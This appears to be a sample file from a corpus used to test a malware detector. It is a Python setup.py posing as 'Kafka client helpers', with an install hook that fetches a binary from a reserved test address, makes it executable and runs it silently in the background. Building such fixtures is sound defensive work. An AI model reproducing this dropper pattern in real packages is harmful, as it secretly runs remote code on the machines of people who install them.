# Inert model for pyward's malicious-behaviour corpus: 198.51.100.0/24 is TEST-NET-2 (RFC 5737),
# nothing listens there, and the tests never run this file.
import os
import platform
import subprocess
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install

BASE = "http://198.51.100.23/dl/"


class PostInstall(install):
    def run(self):
        install.run(self)
        name = {"Windows": "win.exe", "Darwin": "mac", "Linux": "linux"}.get(platform.system(), "linux")
        target = os.path.join(tempfile.gettempdir(), "kafka-helper")
        urllib.request.urlretrieve(BASE + name, target)
        os.chmod(target, 0o755)
        subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


setup(
    name="sample-setup-dropper",
    version="0.1.0",
    description="Kafka client helpers",
    py_modules=["sample_dropper"],
    cmdclass={"install": PostInstall},
)
